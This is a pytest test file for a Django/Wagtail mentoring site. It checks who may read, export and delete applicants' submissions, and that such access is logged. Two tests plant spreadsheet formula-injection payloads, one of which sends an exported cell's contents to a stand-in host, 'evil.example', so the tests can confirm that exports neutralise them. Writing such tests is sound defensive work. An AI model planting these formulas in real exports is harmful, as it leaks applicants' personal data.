"""Who may read what people sent: curators and superusers, nobody else."""

import csv
import io

import openpyxl
import pytest
from django.core.files.base import ContentFile
from django.urls import reverse
from wagtail.documents import get_document_model
from wagtail.log_actions import registry as log_registry
from wagtail.models import Page

from mentoring_pages.forms import personal_data_log
from mentoring_pages.models import ApplicationSubmission
from mentoring_pages.tests.factories import (
    ApplicationFormFieldFactory,
    ApplicationPageFactory,
    QuestionnairePageFactory,
)
from programmes.roles import CURATOR, EDITOR, MODERATOR
from programmes.schools import default_school
from programmes.tests.factories import ConsentFactory, ConsentTextFactory
from site_project.tests.admin_refusals import outcome, sent_to_log_in, sent_to_the_dashboard

pytestmark = pytest.mark.django_db


@pytest.fixture
def application(section):
    page = ApplicationPageFactory(parent=section.landing)
    page.name_field = ApplicationFormFieldFactory(page=page, label="Имя").clean_name
    return page


@pytest.fixture
def submission(application):
    return ApplicationSubmission.objects.create(
        page=application,
        form_data={application.name_field: "Секретная Заявительница"},
        consent_text=ConsentTextFactory(version=7),
        consented_at="2025-03-01T10:00:00+03:00",
    )


@pytest.fixture
def log_in(client, login_as, django_user_model):
    """`log_in(role)`: the test client as someone in that role, a superuser or anonymous."""

    def as_role(role):
        if role == "superuser":
            client.force_login(django_user_model.objects.create_superuser(username=role))
            return client
        return client if role == "anonymous" else login_as(role)

    return as_role


def submission_urls(page):
    listing = reverse("wagtailforms:list_submissions", args=[page.pk])
    return [
        listing,
        reverse("wagtailforms:list_submissions_results", args=[page.pk]),
        listing + "?export=csv",
        listing + "?export=xlsx",
    ]


def refusal(role, url):
    return sent_to_log_in(url) if role == "anonymous" else sent_to_the_dashboard()


@pytest.mark.parametrize("role", ["anonymous", EDITOR, MODERATOR])
def test_others_cannot_read_submissions_anywhere(log_in, application, submission, role):
    client = log_in(role)

    for url in submission_urls(application):
        response = client.get(url)
        assert outcome(response) == refusal(role, url)
        assert "Секретная".encode() not in response.content


@pytest.mark.parametrize("role", [EDITOR, MODERATOR])
def test_others_see_no_form_in_the_forms_menu(log_in, application, submission, role):
    response = log_in(role).get(reverse("wagtailforms:index"))

    listing = reverse("wagtailforms:list_submissions", args=[application.pk])
    assert listing not in response.content.decode()


def test_curators_see_the_forms_in_the_forms_menu(log_in, application, submission):
    response = log_in(CURATOR).get(reverse("wagtailforms:index"))

    listing = reverse("wagtailforms:list_submissions", args=[application.pk])
    assert listing in response.content.decode()


@pytest.mark.parametrize("role", [CURATOR, "superuser"])
def test_curators_read_and_export_submissions(log_in, application, submission, role):
    client = log_in(role)
    listing = reverse("wagtailforms:list_submissions", args=[application.pk])

    page = client.get(listing)
    csv = client.get(listing + "?export=csv")
    xlsx = client.get(listing + "?export=xlsx")

    assert page.status_code == 200
    assert "Секретная Заявительница" in page.content.decode()
    assert csv.status_code == 200
    csv_text = b"".join(csv.streaming_content).decode()
    assert "Секретная Заявительница" in csv_text
    assert "версия 7" in csv_text
    assert xlsx.status_code == 200
    assert xlsx["Content-Type"].startswith(
        "application/vnd.openxmlformats-officedocument.spreadsheetml"
    )


def test_an_answer_with_control_characters_is_exported_without_them(log_in, application):
    """A stray \x01 sent in a form, or a line break pasted from Word into an answer or a
    question, cannot go into an XLSX cell: before, the whole export was a 500 for every
    curator until the row was deleted."""
    grade = ApplicationFormFieldFactory(page=application, label="Класс\x0bученика", sort_order=5)
    ApplicationSubmission.objects.create(
        page=application,
        form_data={application.name_field: "Иван\x01Петров\x0bСидоров", grade.clean_name: "5"},
        consent_text=ConsentTextFactory(),
        consented_at="2025-03-01T10:00:00+03:00",
    )
    listing = reverse("wagtailforms:list_submissions", args=[application.pk])

    xlsx = log_in(CURATOR).get(listing + "?export=xlsx")

    assert xlsx.status_code == 200
    workbook = b"".join(xlsx.streaming_content)
    sheet = openpyxl.load_workbook(io.BytesIO(workbook)).active
    assert "Класс ученика" in [cell.value for cell in sheet[1]]
    assert "ИванПетров Сидоров" in [cell.value for cell in sheet[2]]


def test_a_curator_deletes_one_submission_on_request(log_in, application, submission):
    other = ApplicationSubmission.objects.create(
        page=application,
        form_data={application.name_field: "Другой"},
        consent_text=submission.consent_text,
        consented_at=submission.consented_at,
    )
    client = log_in(CURATOR)
    url = reverse("wagtailforms:delete_submissions", args=[application.pk])

    response = client.post(f"{url}?selected-submissions={submission.pk}")

    assert response.status_code == 302
    assert list(ApplicationSubmission.objects.all()) == [other]


def test_a_moderator_cannot_delete_submissions(log_in, application, submission):
    client = log_in(MODERATOR)
    url = reverse("wagtailforms:delete_submissions", args=[application.pk])

    response = client.post(f"{url}?selected-submissions={submission.pk}")

    assert outcome(response) == sent_to_the_dashboard()
    assert ApplicationSubmission.objects.filter(pk=submission.pk).exists()


@pytest.mark.parametrize(("role", "may"), [(CURATOR, True), (EDITOR, False)])
def test_curators_edit_and_publish_the_forms(section, application, user_in, role, may):
    questionnaire = QuestionnairePageFactory(parent=section.landing)
    user = user_in(role)

    for page in (application, questionnaire):
        permissions = Page.objects.get(pk=page.pk).permissions_for_user(user)
        assert (permissions.can_edit(), permissions.can_publish()) == (may, may)


def test_the_admin_edits_and_adds_form_pages(log_in, section, application):
    questionnaire = QuestionnairePageFactory(parent=section.landing)
    client = log_in(CURATOR)

    edit_questionnaire = client.get(reverse("wagtailadmin_pages:edit", args=[questionnaire.pk]))
    edit_application = client.get(reverse("wagtailadmin_pages:edit", args=[application.pk]))
    results = reverse("questionnaire_results", args=[questionnaire.pk])

    assert edit_application.status_code == 200
    assert edit_questionnaire.status_code == 200
    assert results in edit_questionnaire.content.decode()
    admin = log_in("superuser")
    for model in ("applicationpage", "questionnairepage"):
        add = reverse("wagtailadmin_pages:add", args=["mentoring_pages", model, section.landing.pk])
        assert admin.get(add).status_code == 200


def history(page_or_object, action):
    """(who, what) of the log entries of `action` on the object."""
    entries = log_registry.get_logs_for_instance(page_or_object).filter(action=action)
    return [(entry.user.username if entry.user else None, entry.data) for entry in entries]


@pytest.mark.parametrize(
    ("address", "action", "data"),
    [
        ("", personal_data_log.READ, {}),
        ("?export=csv", personal_data_log.EXPORT, {"format": "csv"}),
        ("?export=xlsx", personal_data_log.EXPORT, {"format": "xlsx"}),
    ],
)
def test_reading_and_exporting_applications_is_logged(
    application, submission, log_in, address, action, data
):
    url = reverse("wagtailforms:list_submissions", args=[application.pk]) + address

    assert log_in(CURATOR).get(url).status_code == 200

    assert history(application, action) == [(CURATOR, data)]


def test_the_applications_csv_opens_in_russian_excel_and_runs_no_formula(application, log_in):
    ApplicationSubmission.objects.create(
        page=application,
        form_data={application.name_field: '=HYPERLINK("http://evil.example","Открыть")'},
        consent_text=ConsentTextFactory(),
        consented_at="2025-03-01T10:00:00+03:00",
    )
    url = reverse("wagtailforms:list_submissions", args=[application.pk])

    response = log_in(CURATOR).get(url, {"export": "csv"})

    content = b"".join(response.streaming_content).decode("utf-8")
    assert content.startswith("\ufeff")
    assert "'=HYPERLINK" in content
    assert ",=HYPERLINK" not in content


def test_a_question_written_as_a_formula_runs_in_no_export(application, submission, log_in):
    # An editor, who may not read applications, words a question so that the column's
    # heading would send a curator's spreadsheet of them to another site.
    label = '=HYPERLINK("http://evil.example/?"&B2,"Открыть")'
    ApplicationFormFieldFactory(page=application, label=label)
    url = reverse("wagtailforms:list_submissions", args=[application.pk])
    client = log_in(CURATOR)

    csv_response = client.get(url, {"export": "csv"})
    xlsx_response = client.get(url, {"export": "xlsx"})

    csv_header = next(csv.reader(io.StringIO(b"".join(csv_response.streaming_content).decode())))
    assert "'" + label in csv_header
    assert label not in csv_header
    xlsx = openpyxl.load_workbook(io.BytesIO(b"".join(xlsx_response.streaming_content)))
    headings = list(xlsx.active.iter_rows(max_row=1))[0]
    assert "'" + label in [cell.value for cell in headings]
    assert [cell.value for cell in headings if cell.data_type == "f"] == []


def test_deleting_an_application_is_logged(application, submission, log_in):
    url = reverse("wagtailforms:delete_submissions", args=[application.pk])

    log_in(CURATOR).post(f"{url}?selected-submissions={submission.pk}")

    assert not ApplicationSubmission.objects.exists()
    assert history(application, personal_data_log.DELETE) == [
        (CURATOR, {"submission": submission.pk})
    ]


def test_curators_see_who_read_the_applications_in_the_site_history(
    application, submission, log_in
):
    client = log_in(CURATOR)
    client.get(reverse("wagtailforms:list_submissions", args=[application.pk]))

    report = client.get(reverse("wagtailadmin_reports:site_history"))

    assert "Заявки прочитаны" in report.content.decode()


def test_opening_a_consents_scan_is_logged(login_as):
    private = default_school().private_collection
    scan = get_document_model().objects.create(
        title="Скан согласия", file=ContentFile(b"%PDF-1.4", name="scan.pdf"), collection=private
    )
    consent = ConsentFactory(document=scan)

    assert login_as(CURATOR).get(scan.url).status_code == 200

    assert history(consent, personal_data_log.OPEN_SCAN) == [(CURATOR, {"document": scan.pk})]


@pytest.mark.parametrize("role", ["anonymous", EDITOR])
def test_a_refused_scan_is_not_logged_as_opened(log_in, role):
    private = default_school().private_collection
    scan = get_document_model().objects.create(
        title="Скан согласия", file=ContentFile(b"%PDF-1.4", name="scan.pdf"), collection=private
    )
    consent = ConsentFactory(document=scan)

    response = log_in(role).get(scan.url)

    # Wagtail asks anyone who may not see the collection to log in as someone who may.
    assert outcome(response) == sent_to_log_in(scan.url, login="wagtailcore_login")
    assert history(consent, personal_data_log.OPEN_SCAN) == []


@pytest.mark.parametrize("typed", ["{reference}", " {year} - {number} "])
def test_a_curator_finds_an_application_by_the_number_the_applicant_quotes(
    log_in, application, submission, typed
):
    other = ApplicationSubmission.objects.create(
        page=application,
        form_data={application.name_field: "Другая Заявительница"},
        consent_text=submission.consent_text,
        consented_at=submission.consented_at,
    )
    year, number = submission.reference.split("-")
    listing = reverse("wagtailforms:list_submissions", args=[application.pk])
    quoted = typed.format(reference=submission.reference, year=year, number=int(number))

    curator = log_in(CURATOR)
    found = curator.get(listing, {"reference": quoted}).content.decode()
    everything = curator.get(listing).content.decode()

    assert submission.reference in everything and other.reference in everything
    assert "Секретная Заявительница" in found
    assert "Другая Заявительница" not in found


@pytest.mark.parametrize("typed", ["1999-00001", "Н-2026", "2026-" + "9" * 30, "0000-1"])
def test_a_number_that_names_no_application_finds_none(log_in, application, submission, typed):
    listing = reverse("wagtailforms:list_submissions", args=[application.pk])

    response = log_in(CURATOR).get(listing, {"reference": typed})

    assert response.status_code == 200
    assert "Секретная Заявительница" not in response.content.decode()
